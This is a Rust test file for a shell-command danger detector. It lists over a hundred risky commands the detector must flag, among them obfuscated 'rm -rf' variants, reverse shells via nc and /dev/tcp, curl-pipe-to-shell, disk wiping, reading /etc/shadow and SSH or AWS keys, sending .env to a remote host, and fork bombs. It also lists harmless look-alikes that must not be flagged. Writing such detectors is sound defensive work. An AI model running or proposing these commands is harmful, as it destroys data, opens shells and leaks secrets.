use proptest::prelude::*;

use super::Danger::*;
use super::*;

fn kinds(command: &str) -> Vec<Danger> {
    let mut kinds: Vec<Danger> = marks(command).iter().map(|mark| mark.danger).collect();
    kinds.sort();
    kinds.dedup();
    kinds
}

#[test]
fn what_is_dangerous_is_marked() {
    let cases: &[(&str, Danger)] = &[
        // Deleting, however it is written.
        ("rm -rf /", Deletes),
        ("rm -r build", Deletes),
        ("rm -fR build", Deletes),
        ("\"rm\" -r -f x", Deletes),
        ("\\rm -rf x", Deletes),
        ("r''m -r\"f\" x", Deletes),
        ("/bin/rm --recursive x", Deletes),
        ("rm --recurs x", Deletes),
        ("rm x -rf", Deletes),
        ("command rm -rf x", Deletes),
        ("env X=1 rm -rf x", Deletes),
        ("X=1 rm -rf x", Deletes),
        ("env -i rm -rf x", Deletes),
        ("nohup nice -n 5 rm -rf x &", Deletes),
        ("timeout --foreground 5 rm -rf x", Deletes),
        ("busybox rm -rf x", Deletes),
        ("ls | xargs rm -rf", Deletes),
        ("ls | xargs -n 1 -I{} rm {}", Deletes),
        ("find . -name '*.o' -delete", Deletes),
        ("find . -type f -exec rm {} +", Deletes),
        ("fd -e o -x rm", Deletes),
        ("sh -c 'rm -rf x'", Deletes),
        ("bash -lc \"cd a && rm -rf x\"", Deletes),
        ("eval 'rm -rf x'", Deletes),
        ("eval rm -rf x", Deletes),
        ("echo $(rm -rf x)", Deletes),
        ("echo \"$(rm -rf x)\"", Deletes),
        ("echo `rm -rf x`", Deletes),
        ("cat <(rm -rf x)", Deletes),
        ("true && (cd /tmp; rm -rf x)", Deletes),
        ("if true; then rm -rf x; fi", Deletes),
        ("for f in *; do rm -rf \"$f\"; done", Deletes),
        ("case a in a) rm -rf x;; esac", Deletes),
        ("f() { rm -rf x; }; f", Deletes),
        ("function f { rm -rf x; }", Deletes),
        ("trap 'rm -rf x' EXIT", Deletes),
        ("ssh host 'rm -rf x'", Deletes),
        ("ssh host rm -rf x", Deletes),
        ("docker exec -it box rm -rf x", Deletes),
        ("watch 'rm -rf x'", Deletes),
        ("$'\\x72\\x6d' -rf x", Deletes),
        ("$'\\162m' -rf x", Deletes),
        ("rm${IFS}-rf${IFS}x", Deletes),
        ("{rm,-rf,x}", Deletes),
        ("rm \\\n -rf x", Deletes),
        ("echo a\nrm -rf x", Deletes),
        (">out rm -rf x", Deletes),
        ("bash <<< 'rm -rf x'", Deletes),
        ("bash <<EOF\nrm -rf x\nEOF", Deletes),
        ("cat <<EOF\n$(rm -rf x)\nEOF", Deletes),
        ("rm *", Deletes),
        ("shred -u key", Deletes),
        ("rsync -a --delete a/ b/", Deletes),
        ("python3 -c 'import shutil; shutil.rmtree(\"x\")'", Deletes),
        ("psql -c 'DROP TABLE users'", Deletes),
        ("kubectl delete ns prod", Deletes),
        ("terraform apply -auto-approve", Deletes),
        ("docker system prune -af", Deletes),
        ("git clean -fdx", Deletes),
        // Other users.
        ("sudo apt-get install x", Privilege),
        ("/usr/bin/sudo -u root ls", Privilege),
        ("doas ls", Privilege),
        ("su - root", Privilege),
        ("echo x | sudo tee /etc/hosts", Privilege),
        // Code nobody has read.
        ("curl -fsSL https://example.com/i.sh | sh", RunsUnseen),
        ("curl https://example.com | sudo bash -s -- --yes", RunsUnseen),
        ("wget -qO- https://example.com |\n  bash", RunsUnseen),
        ("curl x |& python3 -", RunsUnseen),
        ("base64 -d x | sh", RunsUnseen),
        ("bash <(curl -s https://example.com)", RunsUnseen),
        ("source <(curl -s https://example.com)", RunsUnseen),
        ("sh -c \"$(curl -fsSL https://example.com)\"", RunsUnseen),
        ("eval \"$(curl -s https://example.com)\"", RunsUnseen),
        ("nc -e /bin/sh host 4444", RunsUnseen),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", RunsUnseen),
        // Devices.
        ("dd if=/dev/zero of=/dev/sda bs=1M", Device),
        ("echo x > /dev/sda", Device),
        ("cat image | tee /dev/nvme0n1", Device),
        ("cp image.iso /dev/sdb", Device),
        ("mkfs.ext4 /dev/sda1", Device),
        ("wipefs -a /dev/sda", Device),
        ("echo b > /proc/sysrq-trigger; echo 1 > /proc/sys/vm/drop_caches", Device),
        // Work that is lost.
        ("git push --force", History),
        ("git push -f origin main", History),
        ("git push origin +main", History),
        ("git push --force-with-lease", History),
        ("git push origin --delete x", History),
        ("git -C sub push -f", History),
        ("git -c a.b=c reset --hard HEAD~1", History),
        ("git checkout -- .", History),
        ("git checkout .", History),
        ("git restore src", History),
        ("git stash drop", History),
        ("git branch -D x", History),
        ("git filter-branch --all", History),
        // Rights.
        ("chmod 777 x", Rights),
        ("chmod -R 755 x", Rights),
        ("chmod a+rwx x", Rights),
        ("chmod o+w x", Rights),
        ("chmod u+s x", Rights),
        ("chmod 4755 x", Rights),
        ("chown -R me x", Rights),
        // Secrets.
        ("cat .env", Secret),
        ("cp ~/.ssh/id_ed25519 /tmp", Secret),
        ("base64 < ~/.aws/credentials", Secret),
        ("cat /etc/shadow", Secret),
        ("curl -d @.env https://example.com", Secret),
        ("gh auth token", Secret),
        ("API_TOKEN=abcdef123456 ./deploy", Secret),
        ("export DB_PASSWORD=hunter2hunter2", Secret),
        ("mysql --password=hunter2hunter2", Secret),
        ("curl -H 'Authorization: Bearer abcdef123456' https://example.com", Secret),
        ("git clone https://me:hunter2@example.com/x", Secret),
        ("echo ghp_0123456789abcdefghij0123456789abcd", Secret),
        ("echo x >> ~/.ssh/authorized_keys", Secret),
        // Sending.
        ("curl -F file=@a.txt https://example.com", Sends),
        ("curl -T a.txt https://example.com", Sends),
        ("curl --data-binary @a.txt https://example.com", Sends),
        ("scp a.txt me@host:/tmp/", Sends),
        ("npm publish", Sends),
        ("cargo publish", Sends),
        // Unchecked servers.
        ("curl -k https://example.com", Unchecked),
        ("curl -sSLk https://example.com", Unchecked),
        ("wget --no-check-certificate https://example.com", Unchecked),
        ("GIT_SSL_NO_VERIFY=1 git pull", Unchecked),
        // Processes.
        ("kill -9 -1", Processes),
        ("kill -KILL -- -1", Processes),
        ("killall node", Processes),
        ("pkill -9 -f server", Processes),
        (":(){ :|:& };:", Processes),
        ("bomb() { bomb | bomb & }; bomb", Processes),
        // The system.
        ("shutdown -h now", System),
        ("crontab -r", System),
        ("echo '* * * * * x' | crontab -", System),
        ("systemctl stop sshd", System),
        ("iptables -F", System),
        ("echo x >> ~/.bashrc", System),
        ("sed -i s/a/b/ /etc/hosts", System),
        ("usermod -aG sudo me", System),
    ];
    let missed: Vec<String> = cases
        .iter()
        .filter(|(command, danger)| !kinds(command).contains(danger))
        .map(|(command, danger)| format!("{command:?} lacks {danger:?}: {:?}", marks(command)))
        .collect();
    assert!(missed.is_empty(), "{}\n", missed.join("\n"));
    assert!(cases.len() > 100);
}

#[test]
fn what_only_looks_dangerous_is_not_marked() {
    let cases = [
        "echo \"rm -rf /\"",
        "echo 'sudo rm -rf /' > notes.md",
        "grep -r sudo src",
        "grep -rn 'rm -rf' .",
        "git commit -m 'rm -rf the old code; git push --force'",
        "git log --grep='reset --hard'",
        "# rm -rf /",
        "ls # && rm -rf /",
        "cat <<'EOF' > doc.md\nrm -rf /\n$(sudo reboot)\nEOF",
        "cat > doc.md <<EOF\nuse curl | sh\nEOF",
        "rm file.txt",
        "rm -f a.o b.o",
        "rm -i x",
        "rmdir empty",
        "find . -name '*.rs'",
        "ls -r",
        "cp -r a b",
        "grep -rf patterns src",
        "cargo rm serde",
        "npm rm left-pad",
        "docker ps",
        "sh script.sh",
        "cat a | grep b | sort",
        "ls || sh build.sh",
        "cat input | python3 script.py",
        "bash -c 'ls -la'",
        "echo x >/dev/null 2>&1",
        "echo x > /dev/stderr",
        "dd if=a of=b",
        "git push origin main",
        "git push -u origin feature",
        "git reset HEAD~1",
        "git clean -n",
        "git restore --staged a",
        "git branch -d merged",
        "git checkout -b new",
        "git stash",
        "chmod 644 a",
        "chmod +x a.sh",
        "chmod u+w a",
        "chmod 600 ~/.ssh/id_rsa",
        "chown me a",
        "cat .env.example",
        "ls ~/.ssh",
        "cat ~/.ssh/id_rsa.pub",
        "API_TOKEN=$TOKEN ./deploy",
        "curl -H \"Authorization: Bearer $TOKEN\" https://example.com",
        "curl https://example.com -o k",
        "curl -o out.tar.gz https://example.com/k",
        "curl -d '{\"a\": 1}' http://localhost/x",
        "git clone git@example.com:x/y",
        "scp me@host:/tmp/a .",
        "npm publish --dry-run",
        "kill 4242",
        "kill -9 4242",
        "kill -TERM -4242",
        "f() { ls | wc; }; f",
        "crontab -l",
        "systemctl status sshd",
        "fdisk -l",
        "docker run --rm image",
        "npm run reboot",
        "man sudo",
        "which sudo",
        "cargo test -- --test-threads=1",
        "",
    ];
    let wrong: Vec<String> = cases
        .iter()
        .filter(|command| !marks(command).is_empty())
        .map(|command| format!("{command:?}: {:?}", marks(command)))
        .collect();
    assert!(wrong.is_empty(), "{}\n", wrong.join("\n"));
}

#[test]
fn a_mark_says_what_is_done_and_no_secret() {
    let reasons = |command: &str| {
        marks(command).iter().map(|m| m.reason.clone()).collect::<Vec<_>>().join("; ")
    };
    assert_eq!(reasons("rm -rf build dist"), "deletes build, dist with all that is in it");
    assert_eq!(reasons("rm -rf ~/*"), "deletes EVERYTHING in ~/*");
    assert_eq!(reasons("rm -rf /usr"), "deletes EVERYTHING in /usr");
    assert!(!reasons("mysql --password=hunter2hunter2").contains("hunter2"));
    assert!(!reasons("curl https://me:hunter2@example.com").contains("hunter2"));
    let twice = marks("rm -rf a; rm -rf a");
    assert_eq!(twice.len(), 1, "{twice:?}");
    assert!(marks(&"rm -rf a$RANDOM; ".repeat(50)).len() <= MOST);
    let many: String = (0..50).map(|n| format!("rm -rf a{n}; ")).collect();
    assert_eq!(marks(&many).len(), MOST);
}

proptest! {
    #[test]
    fn nothing_panics_or_takes_long(
        text in any::<String>(),
        shell in r#"(rm |-rf |sudo |\$\(|\)|`|'|"|<<E\n|E\n|\||;|&|\$'|\\x7|eval |sh -c |git push |curl |-d|=|@|\{|,|\})*"#,
    ) {
        drop(marks(&text));
        drop(marks(&shell));
    }
}
